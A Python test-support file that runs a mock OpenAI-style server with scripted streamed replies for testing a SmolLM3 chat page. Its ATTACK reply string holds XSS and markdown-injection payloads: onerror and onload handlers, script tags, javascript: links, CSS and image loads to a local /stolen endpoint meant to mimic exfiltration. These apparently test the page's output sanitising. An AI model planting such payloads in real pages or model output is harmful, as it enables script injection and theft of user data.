"""A server with the chat page and a scripted model: the last user message says what it does.

It speaks the part of the API that the page uses, and remembers what it was asked. `python -m
tests.support.mock_openai [PORT]` runs it for a person.
"""

import json
import math
import os
import re
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

BUILT = Path(__file__).resolve().parents[2] / "src" / "smollm3" / "serve" / "static"
STATIC = Path(os.environ.get("SMOLLM3_PAGE", BUILT))  # tests put a broken page here
CSP = "default-src 'self'; img-src 'self' data:; connect-src 'self'"
TYPES = {
    ".html": "text/html",
    ".js": "text/javascript",
    ".css": "text/css",
    ".svg": "image/svg+xml",
    ".woff2": "font/woff2",
}
CONTEXT = 65_536

THOUGHT = (
    "The user asks about the rotary embedding. A query at place $m$ and a key at place $n$ meet "
    "in a product that depends on $m - n$ alone.\n\nI will show the rotation, then code, then a table."
)
ANSWER = r"""RoPE turns pairs of numbers by an angle that grows with the place in the text. In SmolLM3 every fourth layer leaves it out (NoPE), and the model reads longer texts for it.

For the pair $i$ of a head with $d$ dimensions, at place $m$:

$$\begin{pmatrix} q'_{2i} \\ q'_{2i+1} \end{pmatrix} = \begin{pmatrix} \cos m\theta_i & -\sin m\theta_i \\ \sin m\theta_i & \cos m\theta_i \end{pmatrix} \begin{pmatrix} q_{2i} \\ q_{2i+1} \end{pmatrix}, \qquad \theta_i = \Theta^{-2i/d}$$

As code:

```python
def rotate(x, place, theta=5_000_000):
    half = x.shape[-1] // 2  # pairs are (i, i + half)
    angle = place * theta ** -(np.arange(half) / half)
    a, b = x[..., :half], x[..., half:]
    return np.concatenate([a * np.cos(angle) - b * np.sin(angle),
                           a * np.sin(angle) + b * np.cos(angle)], -1)
```

| layers | position | share |
|---|---|---|
| 1, 2, 3, 5, ... | RoPE | 3 of 4 |
| 4, 8, 12, ... | none | 1 of 4 |

1. Near tokens keep a sharp sense of order.
2. A layer *without* rotation compares content alone, at **any** distance.
"""
ATTACK = """Look: <img src=x onerror="window.hacked=1"> and <script>window.hacked=2</script>

![weather](http://127.0.0.1:{port}/stolen?secret=1) ![data](data:text/html,x) ![own](/stolen?own=1)

[click](javascript:window.hacked=3) <svg onload="window.hacked=4"> <iframe srcdoc="x"></iframe>

<style>body{{background:url(/stolen?css=1)}}</style>

$\\href{{javascript:window.hacked=5}}{{x}} \\includegraphics{{/stolen?tex=1}}$ `<b onclick=x>`

[ref]: http://127.0.0.1:{port}/stolen?ref=1 "<img src=/stolen?title=1>"
![ref]
"""
GLASS = "The capital of France is Paris, a city on the Seine with about two million inhabitants."
PYTHON_CODE = "from datetime import date\n(date(2025, 5, 19) - date(2025, 3, 3)).days"


def pieces(text: str) -> list[str]:
    return re.findall(r"\s?\w+|\s|[^\w\s]", text)


def token(i: int, text: str) -> dict:
    """Probabilities that look like a model's: most tokens sure, some not."""
    p = [0.98, 0.91, 0.99, 0.42, 0.87, 0.999, 0.12, 0.95, 0.66, 0.99][(i * 7 + len(text)) % 10]
    others = [(" Lyon", 0.5), (" the", 0.3), (" a", 0.15)]
    top = [{"id": number(text), "text": text, "logprob": math.log(p)}]
    top += [{"id": number(t), "text": t, "logprob": math.log((1 - p) * q)} for t, q in others]
    source = "draft" if i % 5 in (2, 3) else "sampled"
    return {"id": top[0]["id"], "text": text, "logprob": math.log(p), "top": top, "source": source}


def counted(said: str) -> str:
    """The answer to "count": known, different for each, half a second to two."""
    return " ".join(f"{said.rsplit(maxsplit=1)[-1]}.{i}" for i in range(10 + len(said) % 3 * 20))


WORDS: dict[int, str] = {}  # the vocabulary: what was written so far


def number(text: str) -> int:
    i = sum(byte * 31**i for i, byte in enumerate(text.encode())) % 128_000
    WORDS[i] = text
    return i


class Mock(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, port: int = 0) -> None:
        super().__init__(("127.0.0.1", port), Handler)
        self.asked: list[dict] = []  # bodies of POSTs
        self.got: list[str] = []  # paths of GETs
        self.broken_off = threading.Event()  # a client went away before its answer ended
        self.refusals = 1  # 429s before "busy" is answered
        self.key = ""
        self.pace = 0.001  # seconds a token
        self.gone = False  # no request is answered, and answers break off
        self.goes_on = threading.Event()  # what "hold" waits for

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def __enter__(self):
        threading.Thread(target=self.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_):
        self.shutdown()
        self.server_close()


class Handler(BaseHTTPRequestHandler):
    server: Mock

    def log_message(self, *_):
        pass

    def reply(self, status, body, kind="application/json", **headers):
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        self.send_response(status)
        fields = {"Content-Type": kind, "Content-Length": len(data), "Content-Security-Policy": CSP}
        for name, value in {**fields, **headers}.items():
            self.send_header(name.replace("_", "-"), str(value))
        self.end_headers()
        self.wfile.write(data)

    def refused(self):
        key = self.server.key
        if not key or self.headers.get("Authorization") == f"Bearer {key}":
            return False
        self.reply(401, {"error": {"message": "This server asks for an API key."}})
        return True

    def parse_request(self):
        return super().parse_request() and not self.server.gone

    def do_GET(self):
        self.server.got.append(self.path)
        path = self.path.split("?")[0]
        if path == "/v1/models":
            if not self.refused():
                model = {"id": "smollm3-3b", "object": "model", "max_model_len": CONTEXT}
                self.reply(200, {"object": "list", "data": [model]})
            return
        if path == "/v1/tools":
            self.reply(200, {"object": "list", "data": [], "python": None})
            return
        name = path.removeprefix("/assets/")
        file = STATIC / "index.html" if path == "/" else STATIC / "assets" / name
        if "/" in name.strip("/") or not file.is_file():
            self.reply(404, {"error": {"message": "not found"}})
        else:
            self.reply(200, file.read_bytes(), TYPES.get(file.suffix, "text/plain"))

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.server.asked.append(body)
        if self.refused():
            return
        self.asks_glass = body.get("glass_box", False)
        self.count = 0
        try:
            if self.path == "/v1/completions":
                self.complete(body)
            else:
                self.chat(body)
        except (BrokenPipeError, ConnectionResetError):
            self.server.broken_off.set()

    def begin(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Connection", "close")
        self.end_headers()

    def chunk(self, choice=None, **fields):
        chunk = {"id": "1", "model": "smollm3-3b", "choices": [choice] if choice else [], **fields}
        if self.server.gone:
            raise ConnectionResetError
        self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
        self.wfile.flush()

    def say(self, field, text, raw="", pace=None):
        """The text piece by piece, as a delta's field; `raw` is markup that the delta lacks."""
        for piece in [*([raw] if raw else []), *pieces(text)]:
            extra = {"tokens": [token(self.count, piece)]} if self.asks_glass else {}
            self.count += 1
            shown = "" if piece == raw else piece
            choice = (
                {"index": 0, "text": shown}
                if field == "text"
                else {"index": 0, "delta": {field: shown}}
            )
            self.chunk(choice, **extra)
            time.sleep(self.server.pace if pace is None else pace)

    def end(self, reason, prompt, reasoning=0):
        self.chunk({"index": 0, "delta": {}, "text": "", "finish_reason": reason})
        self.chunk(
            usage={
                "prompt_tokens": prompt,
                "completion_tokens": self.count,
                "total_tokens": prompt + self.count,
                "prompt_tokens_details": {"cached_tokens": prompt // 3},
                "completion_tokens_details": {"reasoning_tokens": reasoning},
            }
        )
        self.wfile.write(b"data: [DONE]\n\n")

    def chat(self, body):
        messages = body["messages"]
        said = messages[-1]["content"]
        asked = said.lower()
        thinks = body["chat_template_kwargs"]["enable_thinking"]
        if self.turned_away(asked):
            return None
        turns = [
            ("<|im_start|>", f"{m['role']}", "\n", m["content"], "<|im_end|>", "\n")
            for m in messages
        ]
        prompt = [
            p
            for turn in turns
            for part in turn
            for p in ([part] if part[:1] == "<" else pieces(part))
        ]
        prompt += [
            "<|im_start|>",
            "assistant",
            "\n",
            *([] if thinks else ["<think>", "\n\n", "</think>", "\n"]),
        ]
        self.begin()
        first = {"index": 0, "delta": {"role": "assistant", "content": ""}}
        if self.asks_glass:
            cached = len(prompt) // 3
            detail = [
                {"id": number(p), "text": p, "cached": i < cached} for i, p in enumerate(prompt)
            ]
            self.chunk(first, prompt_tokens_detail=detail)
        else:
            self.chunk(first)
        if messages[-1]["role"] == "tool":
            self.say("content", f"The tool says {said}, so **{said}** it is.")
            return self.end("stop", len(prompt))
        reasoning = 0
        if thinks:
            self.say("reasoning_content", THOUGHT, "<think>\n")
            reasoning = self.count
        if "tool" in asked or "weekdays" in asked:
            return self.call(body, asked, len(prompt), reasoning)
        text = GLASS if self.asks_glass else ANSWER
        pace = {"slow": 0.01, "count": 0.008}.get(asked.split(" ")[0])
        if "attack" in asked:
            text = ATTACK.format(port=self.server.server_address[1])
        elif "slow" in asked:
            text = "word " * 2000
        elif "echo" in asked:
            text = f"You said: {said}. There were {len(messages)} messages."
        elif "count" in asked:
            text = counted(said)
        elif "hold" in asked:
            self.say("content", "As far as this,")
            self.server.goes_on.wait(30)
            text = " and no further."
        elif "break" in asked:
            self.say("content", "Half an ans")
            return None
        self.say("content", text, "</think>\n" if thinks else "", pace)
        return self.end("stop", len(prompt), reasoning)

    def turned_away(self, asked):
        if "busy" in asked and self.server.refusals:
            self.server.refusals -= 1
            self.reply(429, {"error": {"message": "The queue is full."}}, Retry_After=1)
            return True
        if "wrong" in asked:
            self.reply(400, {"error": {"message": "max_tokens: 10 is more than the context holds"}})
            return True
        return False

    def call(self, body, asked, prompt, reasoning):
        name, arguments = "weather", {"city": "Paris", "unit": "°C"}
        if "python" in asked or "weekdays" in asked:
            name, arguments = "python", {"code": PYTHON_CODE}
        text = json.dumps(arguments, ensure_ascii=False)
        for i, piece in enumerate([text[:9], text[9:]]):
            call = {"index": 0, "function": {"arguments": piece}}
            if i == 0:
                call |= {"id": "call00001", "type": "function"}
                call["function"]["name"] = name
            self.chunk({"index": 0, "delta": {"tool_calls": [call]}})
            self.count += 5
        self.end("tool_calls", prompt, reasoning)

    def complete(self, body):
        self.begin()
        ids = body["prompt"]
        self.chunk(
            {"index": 0, "text": ""},
            prompt_tokens_detail=[{"id": i, "text": WORDS[i], "cached": True} for i in ids],
        )
        self.say("text", ", and the story went another way.")
        self.end("stop", len(ids))


if __name__ == "__main__":
    with Mock(int(sys.argv[1]) if len(sys.argv) > 1 else 8123) as mock:
        mock.pace = 0.03
        print(mock.url)
        threading.Event().wait()
